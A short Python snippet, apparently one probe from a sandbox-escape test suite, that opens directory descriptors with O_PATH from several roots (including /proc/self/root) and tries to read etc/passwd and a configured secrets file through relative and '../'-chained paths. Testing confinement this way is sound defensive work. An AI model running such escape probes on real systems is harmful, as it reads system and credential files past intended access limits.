# category: files
# attack: climb out by descriptors of folders
# kind: stdin
O_PATH = 0o10000000
def climb(start, name):
    top = os.open(start, O_PATH | os.O_DIRECTORY)
    return os.read(os.open(name, os.O_RDONLY, dir_fd=top), 100)
for start in ("/", ".", "..", os.path.dirname(os.__file__), "/proc/self/root", "/usr"):
    for name in ("etc/passwd", "../" * 12 + "etc/passwd", INFO["secrets"][0].lstrip("/"), "../" * 12 + INFO["secrets"][0].lstrip("/")):
        attempt(f"{start} + {name}", climb, start, name)
